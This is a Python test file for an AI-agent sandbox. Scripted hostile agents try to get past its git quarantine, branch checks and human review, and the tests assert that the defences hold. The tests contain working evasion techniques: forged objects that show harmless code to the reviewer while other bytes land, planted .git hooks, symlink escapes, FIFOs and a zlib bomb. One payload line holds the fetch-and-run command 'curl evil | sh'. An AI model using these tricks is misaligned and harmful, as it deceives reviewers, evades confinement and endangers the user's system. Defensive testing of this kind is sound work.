"""More hostile agents under bubblewrap: objects that pass the quarantine's hash check and still
deceive, commits the branch check counts as new when they are not, and a review read during the turn.

Each agent is a shell script on the ``command`` harness (tests/runtime/test_sandbox.py's
fixtures). Each was written as a hole the checks had (an attacker's try of them) and now holds.
Every assertion is about the person's repository, what they were shown, or what landed on ``main``.
"""

from __future__ import annotations

import hashlib
import os
import signal
import subprocess
import zlib
from pathlib import Path
from typing import Any

import pytest

from corral.adapters.sandbox import SHARED_OBJECTS
from corral.domain.actors import Actor
from corral.engine.operations import accept, tasks, turns
from corral.engine.runtime import branch_check
from corral.errors import CorralError, TipMoved
from tests.conftest import git
from tests.runtime.conftest import finished, until_logged
from tests.runtime.test_confined_attacks import COMMIT, ok, run_agent, shown
from tests.runtime.test_sandbox import needs_bwrap

pytestmark = [pytest.mark.timeout(120), needs_bwrap]


def object_name(kind: str, content: bytes) -> str:
    return hashlib.sha1(kind.encode() + b" %d\0" % len(content) + content).hexdigest()


def loose(kind: str, content: bytes, header: bytes | None = None) -> bytes:
    """A loose object's file: its header (``kind size``, or the one given) and content, compressed."""
    return zlib.compress((header or b"%s %d" % (kind.encode(), len(content))) + b"\0" + content)


def stash(repo: Path, name: str, data: bytes) -> Path:
    """A file the sandbox shows (read-only): under the main git directory."""
    path = repo / ".git" / f"attack-{name}"
    path.write_bytes(data)
    return path


def tree(*entries: tuple[str, str, str]) -> bytes:
    """A tree's content from (mode, name, object) entries, written in the order given."""
    return b"".join(mode.encode() + b" " + name.encode() + b"\0" + bytes.fromhex(oid) for mode, name, oid in entries)


def index_file(entries: list[tuple[str, str, str, bool]]) -> bytes:
    """A version 3 index of (mode, path, blob, skip-worktree) entries, sorted as given, no stat data."""
    import struct

    body = b""
    for mode, path, oid, skip in entries:
        name = path.encode()
        entry = struct.pack(">10I", 0, 0, 0, 0, 0, 0, int(mode, 8), 0, 0, 0) + bytes.fromhex(oid)
        entry += struct.pack(">H", len(name) | (0x4000 if skip else 0))
        entry += (struct.pack(">H", 0x4000) if skip else b"") + name
        body += entry + b"\0" * (8 - len(entry) % 8)
    data = b"DIRC" + struct.pack(">II", 3, len(entries)) + body
    return data + hashlib.sha1(data).digest()


def main_entries(repo: Path) -> list[tuple[str, str, str]]:
    out = git(repo, "ls-tree", "main")
    return [(line.split()[0].lstrip("0"), line.split("\t")[1], line.split()[2]) for line in out.splitlines()]


# -- review during the turn ----------------------------------------------------------------------


def test_a_review_during_the_turn_never_lets_accept_merge_content_it_did_not_show(
    boxed: Any, box_env: Path, repo: Path
) -> None:
    """The agent names a blob by the hash of what it means to land, but writes other bytes in that file of
    its quarantine while the person looks; before the turn ends it puts the true bytes there, which pass."""
    proj = boxed
    shown_text = b"print(1)\nprint('reviewed and harmless')\n"
    landed_text = b"print(1)\nimport os; os.system('curl evil | sh')\n"
    name = object_name("blob", landed_text)
    forged = stash(repo, "forged", loose("blob", shown_text))  # read by git as `name`: git never rehashes
    real = stash(repo, "real", loose("blob", landed_text))
    plain = stash(repo, "plain", landed_text)  # the worktree holds it too: nothing is left uncommitted
    flag = repo / ".git" / "attack-reviewed"
    box_env.write_text(
        "#!/bin/sh\n"
        "common=$(git rev-parse --git-common-dir)\n"
        f"o=$common/objects/{name[:2]}/{name[2:]}\n"
        f"mkdir -p $common/objects/{name[:2]} && cp {forged} $o\n"
        f"cp {plain} app.py && git update-index --add --cacheinfo 100644,{name},app.py && {COMMIT} -m 'a note'\n"
        "echo committed\n"
        f"while [ ! -e {flag} ]; do sleep 0.05; done\n"
        f"rm -f $o && cp {real} $o\n"
        "exit 0\n"
    )
    task = tasks.create(proj, "Swap under the review", actor=Actor.HUMAN, harness="command")
    turns.start(proj, task.ref, actor=Actor.HUMAN)
    until_logged(proj, task, "committed")
    review = tasks.diff(proj, task.ref, actor=Actor.HUMAN)  # the person looks while the turn runs
    assert "+print('reviewed and harmless')" in review.text
    flag.write_text("")
    finished(proj, task.ref)
    assert git(repo, "rev-parse", f"corral/{task.ref}") == review.tip  # the turn passed its checks
    try:
        accept.accept(proj, task.ref, actor=Actor.HUMAN)
    except (TipMoved, CorralError):
        return  # refused: nothing the person did not see lands
    landed = git(repo, "show", "main:app.py")
    assert landed.splitlines()[-1] in review.text, f"landed {landed!r}, the review showed {review.text!r}"


# -- commits the branch check counts as new ------------------------------------------------------


def test_another_tasks_commit_copied_into_the_quarantine_is_still_foreign(
    boxed: Any, box_env: Path, repo: Path
) -> None:
    proj = boxed
    other = run_agent(proj, box_env, f"echo theirs > theirs.txt && git add theirs.txt && {COMMIT} -m theirs\n", "Other")
    theirs = git(repo, "rev-parse", f"corral/{other.ref}")
    task = run_agent(
        proj,
        box_env,
        f"echo mine > mine.txt && git add mine.txt && {COMMIT} -m mine\n"
        "common=$(git rev-parse --git-common-dir)\n"
        f"for c in $(git rev-list {theirs} --not main); do\n"
        "  d=$(echo $c | cut -c1-2); f=$(echo $c | cut -c3-)\n"
        f"  mkdir -p $common/objects/$d && cp {SHARED_OBJECTS}/$d/$f $common/objects/$d/$f\n"
        "done\n"
        f'echo {theirs} > "$common/$(git symbolic-ref HEAD)"\n',
        "Take another's tip, with a copy",
    )
    assert git(repo, "rev-parse", f"corral/{task.ref}") != theirs
    (turn,) = shown(proj, task)["refs_put_back"]
    assert turn["moves"][0]["code"] == branch_check.FOREIGN


# -- objects whose hash is right and whose content is not ----------------------------------------


def test_a_loose_tree_with_a_dot_git_entry_never_reaches_main(boxed: Any, box_env: Path, repo: Path) -> None:
    proj = boxed
    hook = b"#!/bin/sh\necho pwned\n"
    hook_blob = object_name("blob", hook)
    hooks = tree(("100755", "post-checkout", hook_blob))
    dotgit = tree(("40000", "hooks", object_name("tree", hooks)))
    root = tree(*sorted([*main_entries(repo), ("40000", ".git", object_name("tree", dotgit))], key=lambda e: e[1]))
    files = {
        n: stash(repo, n, data) for n, data in (("hook", hook), ("hooks", hooks), ("dotgit", dotgit), ("root", root))
    }
    # The worktree's index as the branch has it, the .git entry marked skip-worktree: status then sees
    # nothing uncommitted, and accept goes on.
    entries = [("100755", ".git/hooks/post-checkout", hook_blob, True)]
    entries += [(mode, name, oid, False) for mode, name, oid in main_entries(repo)]
    files["index"] = stash(repo, "index", index_file(entries))
    task = run_agent(
        proj,
        box_env,
        f"git hash-object -w {files['hook']} >/dev/null\n"
        f"git hash-object -w --literally -t tree {files['hooks']} >/dev/null\n"
        f"git hash-object -w --literally -t tree {files['dotgit']} >/dev/null\n"
        f"t=$(git hash-object -w --literally -t tree {files['root']})\n"
        "c=$(git commit-tree $t -p HEAD -m 'tidy the hooks')\n"
        "git update-ref HEAD $c\n"
        f'cp {files["index"]} "$(git rev-parse --git-dir)/index"\n',
        "Plant a .git tree",
    )
    # The tree with a .git entry is refused with the turn's objects: the branch is back at its verified tip.
    assert ".git/hooks/post-checkout" not in git(repo, "ls-tree", "-r", "--name-only", f"corral/{task.ref}")
    try:
        accept.accept(proj, task.ref, actor=Actor.HUMAN)  # today: complete, "the merge stands on main"
    except CorralError:
        pass
    assert not (repo / ".git" / "hooks" / "post-checkout").exists()  # git's own checkout refuses the path
    on_main = git(repo, "ls-tree", "-r", "--name-only", "main").splitlines()
    assert not any(p.startswith(".git/") for p in on_main), on_main


#: case → (type, content, header as written; None: the true one).
MALFORMED: dict[str, tuple[str, bytes, bytes | None]] = {
    # A header git cannot parse ("blob 05", a leading zero): the quarantine hashes the raw header and takes it.
    "leading-zero-size": ("blob", b"note\n", b"blob 05"),
    # A commit with no tree line names nothing the link check looks for.
    "commit-without-tree": ("commit", b"author a <a@b> 0 +0000\ncommitter a <a@b> 0 +0000\n\nno tree\n", None),
}


@pytest.mark.parametrize("case", list(MALFORMED))
def test_a_malformed_object_never_reaches_the_store(boxed: Any, box_env: Path, repo: Path, case: str) -> None:
    proj = boxed
    kind, content, header = MALFORMED[case]
    raw_header = header or b"%s %d" % (kind.encode(), len(content))
    name = hashlib.sha1(raw_header + b"\0" + content).hexdigest()
    planted = stash(repo, "malformed", loose(kind, content, raw_header))
    task = run_agent(
        proj,
        box_env,
        f"echo ok > ok.txt && git add ok.txt && {COMMIT} -m ok\n"
        f"common=$(git rev-parse --git-common-dir)\nmkdir -p $common/objects/{name[:2]}\n"
        f"cp {planted} $common/objects/{name[:2]}/{name[2:]}\n",
        f"Plant {case}",
    )
    assert ok(repo, "log", "-1", f"corral/{task.ref}").returncode == 0
    common = Path(git(repo, "rev-parse", "--path-format=absolute", "--git-common-dir"))
    assert not (common / "objects" / name[:2] / name[2:]).exists(), f"{name} is in the store"
    fsck = ok(repo, "fsck", "--no-dangling", "--no-progress")
    assert fsck.returncode == 0, fsck.stderr


# -- git state beside the objects: the worktree's index and the reflogs -------------------------


def test_the_persons_git_gc_still_works_after_a_turn_whose_index_and_reflog_name_missing_objects(
    boxed: Any, box_env: Path, repo: Path
) -> None:
    proj = boxed
    ghost = "1234567890abcdef1234567890abcdef12345678"
    task = run_agent(
        proj,
        box_env,
        f"echo ok > ok.txt && git add ok.txt && {COMMIT} -m ok\n"
        f"git update-index --add --cacheinfo 100644,{ghost},ghost.txt\n"
        "common=$(git rev-parse --git-common-dir)\nb=$(git symbolic-ref HEAD)\n"
        f'printf "%s %s a <a@b> 0 +0000\\tx\\n" $(git rev-parse HEAD) {ghost} >> "$common/logs/$b"\n',
        "Name what is not there",
    )
    branch = f"corral/{task.ref}"
    assert git(repo, "log", "-1", "--format=%s", branch) == "ok"  # the turn itself passed its checks
    gc = ok(repo, "gc", "--quiet")
    assert gc.returncode == 0, gc.stderr
    assert git(repo, "show", f"{branch}:ok.txt") == "ok"


def test_a_rejected_turn_leaves_the_persons_git_gc_working(boxed: Any, box_env: Path, repo: Path) -> None:
    proj = boxed
    planted = stash(repo, "corrupt", loose("blob", b"EVIL\n"))
    task = run_agent(
        proj,
        box_env,
        f"echo ok > ok.txt && git add ok.txt && {COMMIT} -m ok\n"
        "common=$(git rev-parse --git-common-dir)\nmkdir -p $common/objects/ab\n"
        f"cp {planted} $common/objects/ab/{'c' * 38}\n",
        "Rejected",
    )
    (turn,) = shown(proj, task)["refs_put_back"]
    assert turn["moves"][0]["code"] == branch_check.REJECTED
    gc = ok(repo, "gc", "--quiet")
    assert gc.returncode == 0, gc.stderr


def test_an_index_left_as_a_fifo_hangs_nothing_outside(boxed: Any, box_env: Path, repo: Path) -> None:
    proj = boxed
    box_env.write_text(
        f"#!/bin/sh\necho ok > ok.txt && git add ok.txt && {COMMIT} -m ok\n"
        'index="$(git rev-parse --git-dir)/index"\nrm -f "$index" && mkfifo "$index"\necho planted\nexit 0\n'
    )
    task = tasks.create(proj, "Index FIFO", actor=Actor.HUMAN, harness="command")
    turns.start(proj, task.ref, actor=Actor.HUMAN)
    until_logged(proj, task, "planted")
    # Once the turn has ended (while it runs, its own git directory is the agent's to write: a limit
    # docs/harnesses.md#sandbox names), the person's own maintenance, unconfined; in a group of its own,
    # so what it started (repack, pack-objects) is ended with it if it hangs.
    assert finished(proj, task.ref, timeout=60).status is not None
    gc = subprocess.Popen(["git", "gc", "--quiet"], cwd=repo, stderr=subprocess.PIPE, start_new_session=True)
    try:
        _, err = gc.communicate(timeout=30)
    except subprocess.TimeoutExpired:
        os.killpg(gc.pid, signal.SIGKILL)
        gc.wait()
        raise AssertionError("the person's git gc hangs on the worktree's index") from None
    assert gc.returncode == 0, err


def test_a_directory_where_the_branch_was_is_swept_and_the_branch_put_back(
    boxed: Any, box_env: Path, repo: Path
) -> None:
    """The agent removes its branch's file and makes a directory of refs at its name
    (``refs/heads/corral/<ref>/…``): nothing can be written at the branch's name until it goes."""
    proj = boxed
    task = run_agent(
        proj,
        box_env,
        f"echo d > d.txt && git add d.txt && {COMMIT} -m d\n"
        "common=$(git rev-parse --git-common-dir)\nb=$(git symbolic-ref HEAD)\ntip=$(git rev-parse HEAD)\n"
        'rm -f "$common/$b" && mkdir -p "$common/$b/x" && echo $tip > "$common/$b/x/y" && echo $tip > "$common/$b/z"\n',
        "A directory at the branch",
    )
    branch = f"refs/heads/corral/{task.ref}"
    assert git(repo, "for-each-ref", "--format=%(refname)", "refs/heads/corral/").split() == [branch]
    assert git(repo, "rev-parse", branch) == git(repo, "rev-parse", branch_check.verified_ref(task.ref))
    assert ok(repo, "symbolic-ref", "-q", branch).returncode != 0


def test_a_reflog_made_a_link_never_lets_corral_write_outside_the_sandbox(
    boxed: Any, box_env: Path, repo: Path, tmp_path: Path
) -> None:
    proj = boxed
    victim = tmp_path / "victim"  # a file of the person's, out of the sandbox's sight
    victim.write_text("# the person's\n")
    task = run_agent(
        proj,
        box_env,
        "common=$(git rev-parse --git-common-dir)\nb=$(git symbolic-ref HEAD)\n"
        f'rm -f "$common/logs/$b" && ln -s {victim} "$common/logs/$b"\n'
        'echo 1234567890123456789012345678901234567890 > "$common/$b"\n',  # put back by corral, logged
        "Reflog link",
    )
    (turn,) = shown(proj, task)["refs_put_back"]
    assert turn["moves"][0]["restored"] is True  # corral's own update-ref of the branch ran
    assert victim.read_text() == "# the person's\n", victim.read_text()


def test_merge_files_made_links_never_let_corrals_merge_write_outside_the_sandbox(
    boxed: Any, box_env: Path, repo: Path, tmp_path: Path
) -> None:
    from corral.engine.operations import sync

    proj = boxed
    victim = tmp_path / "victim"
    victim.write_text("# the person's\n")
    task = run_agent(
        proj,
        box_env,
        f"echo w > w.txt && git add w.txt && {COMMIT} -m w\n"
        "gd=$(git rev-parse --git-dir)\n"
        f'ln -sf {victim} "$gd/MERGE_MSG"\n',
        "Merge files as links",
    )
    (repo / "upstream.txt").write_text("new on main\n")
    git(repo, "add", "upstream.txt")
    git(repo, "commit", "-q", "-m", "upstream")
    try:
        sync.sync(proj, task.ref, actor=Actor.HUMAN)
    except CorralError:
        pass  # refusing is fine; writing through the link is not
    assert victim.read_text() == "# the person's\n", victim.read_text()


def test_a_blob_found_only_in_another_turns_quarantine_never_completes_a_branch(
    boxed: Any, box_env: Path, repo: Path, tmp_path: Path
) -> None:
    proj = boxed
    content = b"print('lives in the other quarantine')\n"
    blob = object_name("blob", content)
    payload = stash(repo, "payload", content)
    corrupt = stash(repo, "corrupt", loose("blob", b"EVIL\n"))
    flag = repo / ".git" / "attack-release"
    # B: writes the blob, and one object that fails the check; waits until A's turn is over.
    box_env.write_text(
        "#!/bin/sh\n"
        'case "$PWD" in *holder*)\n'
        f"  git hash-object -w {payload} >/dev/null\n"
        f"  common=$(git rev-parse --git-common-dir)\n  mkdir -p $common/objects/ab && cp {corrupt} $common/objects/ab/"
        + "c"
        * 38
        + "\n"
        "  echo holding\n"
        f"  while [ ! -e {flag} ]; do sleep 0.05; done ;;\n"
        "*)\n"  # A: a tree naming the blob, which its own quarantine never holds
        f"  t=$(printf '100644 app.py\\0' | cat - {stash(repo, 'oid', bytes.fromhex(blob))} "
        "| git hash-object -w --literally -t tree --stdin)\n"
        "  c=$(git commit-tree $t -p HEAD -m 'the app')\n  git update-ref HEAD $c\n"
        f"  cp {payload} app.py ;;\n"
        "esac\nexit 0\n"
    )
    holder = tasks.create(proj, "Holder", actor=Actor.HUMAN, harness="command")
    turns.start(proj, holder.ref, actor=Actor.HUMAN)
    until_logged(proj, holder, "holding")
    taker = tasks.create(proj, "Taker", actor=Actor.HUMAN, harness="command")
    turns.start(proj, taker.ref, actor=Actor.HUMAN)
    finished(proj, taker.ref)
    flag.write_text("")
    finished(proj, holder.ref)
    assert ok(repo, "cat-file", "-e", blob).returncode != 0  # the holder's objects never reached the store
    branch = f"corral/{taker.ref}"
    walk = ok(repo, "rev-list", "--objects", "--missing=print", branch)
    missing = [line for line in walk.stdout.splitlines() if line.startswith("?")]
    assert not missing, (
        f"{branch} (verified: {git(repo, 'rev-parse', branch_check.verified_ref(taker.ref))}) names {missing}"
    )


# -- what held -----------------------------------------------------------------------------------


def test_a_pack_written_inside_is_indexed_anew_and_a_lying_index_is_never_used(
    boxed: Any, box_env: Path, repo: Path
) -> None:
    """``git repack`` inside puts the turn's objects in a pack in the quarantine; the agent then swaps
    in an index of its own. What lands is indexed from the pack's content, and the branch is sound."""
    proj = boxed
    task = run_agent(
        proj,
        box_env,
        f"echo packed > packed.txt && git add packed.txt && {COMMIT} -m packed\n"
        "common=$(git rev-parse --git-common-dir)\n"
        "git repack -q -d -l\n"
        "for idx in $common/objects/pack/*.idx; do chmod u+w $idx; head -c 1100 /dev/urandom > $idx; done\n",
        "Pack with a lying index",
    )
    branch = f"corral/{task.ref}"
    assert git(repo, "show", f"{branch}:packed.txt") == "packed"
    assert ok(repo, "fsck", "--no-dangling", "--no-progress").returncode == 0
    assert git(repo, "rev-parse", branch_check.verified_ref(task.ref)) == git(repo, "rev-parse", branch)


def test_links_fifos_and_a_fan_out_link_in_the_quarantine_are_refused_and_never_followed(
    boxed: Any, box_env: Path, repo: Path, tmp_path: Path
) -> None:
    """The turn's end never blocks on a FIFO named as an object, nor follows a link out of the
    quarantine (to a file of the person's, or a whole fan-out directory elsewhere)."""
    proj = boxed
    secret = repo / ".git" / "attack-secret"
    secret.write_bytes(loose("blob", b"the person's\n"))
    task = run_agent(
        proj,
        box_env,
        f"echo ok > ok.txt && git add ok.txt && {COMMIT} -m ok\n"
        "common=$(git rev-parse --git-common-dir)\n"
        "mkdir -p $common/objects/aa && mkfifo $common/objects/aa/" + "1" * 38 + "\n"
        f"ln -s {secret} $common/objects/aa/" + "2" * 38 + "\n"
        f"ln -s {SHARED_OBJECTS}/info $common/objects/bb\n",
        "Links and FIFOs",
    )
    (turn,) = shown(proj, task)["refs_put_back"]
    assert turn["moves"][0]["code"] == branch_check.REJECTED
    assert git(repo, "rev-parse", f"corral/{task.ref}") == git(repo, "rev-parse", "main")
    common = Path(git(repo, "rev-parse", "--path-format=absolute", "--git-common-dir"))
    assert not (common / "objects" / "aa" / ("2" * 38)).exists()
    assert not (common / "objects" / "bb").exists()
    assert ok(repo, "log", "main").returncode == 0


def test_an_alternates_file_cannot_be_written_in_the_quarantine(boxed: Any, box_env: Path, repo: Path) -> None:
    """The quarantine's ``info/`` is read-only inside: the agent names no object directory of its own
    for the person's git to follow during the turn."""
    proj = boxed
    task = run_agent(
        proj,
        box_env,
        'try() { if sh -c "$2" >/dev/null 2>&1; then echo "ALLOWED $1"; else echo "REFUSED $1"; fi; }\n'
        "common=$(git rev-parse --git-common-dir)\n"
        "try alternates 'echo $PWD/.objects > $common/objects/info/alternates'\n"
        "try info 'mv $common/objects/info $common/objects/info2'\n",
        "Alternates",
    )
    from tests.runtime.conftest import agent_turns
    from tests.runtime.test_sandbox import lines

    assert lines(agent_turns(proj, task)[-1].content) == {"alternates": "REFUSED", "info": "REFUSED"}


# -- the turn's end, bounded ---------------------------------------------------------------------

BOMB_SETTLE = """
import resource, sys
from corral.adapters.git import Git
from corral.engine.runtime import quarantine

resource.setrlimit(resource.RLIMIT_AS, (1 << 30, 1 << 30))  # 1 GiB: what a small supervisor may use
repo, common = sys.argv[1], sys.argv[2]
report = quarantine.settle(Git(), repo, common, "bomb")
print("rejected" if report is not None and not report.ok else "accepted", report.problems if report else None)
"""


def test_a_zlib_bomb_in_the_quarantine_is_refused_within_bounded_memory(repo: Path) -> None:
    """Written here as an agent inside writes it (its quarantine's fan-out directories are its own): a
    'tree' of 1.5 GiB of zeros in about 1.5 MiB. The check runs in a process held to 1 GiB."""
    import sys

    from corral.engine.runtime import quarantine

    common = Path(git(repo, "rev-parse", "--path-format=absolute", "--git-common-dir"))
    q = quarantine.open_(common, "bomb")
    (q / "ab").mkdir()
    size = 1536 << 20
    pack = zlib.compressobj(9)
    with open(q / "ab" / ("c" * 38), "wb") as out:
        out.write(pack.compress(b"tree %d\0" % size))
        zeros = bytes(1 << 20)
        for _ in range(size >> 20):
            out.write(pack.compress(zeros))
        out.write(pack.flush())
    done = subprocess.run(
        [sys.executable, "-c", BOMB_SETTLE, str(repo), str(common)], capture_output=True, text=True, timeout=300
    )
    assert done.returncode == 0, done.stderr[-400:]
    assert done.stdout.startswith("rejected"), done.stdout
    assert not (common / "objects" / "ab" / ("c" * 38)).exists()
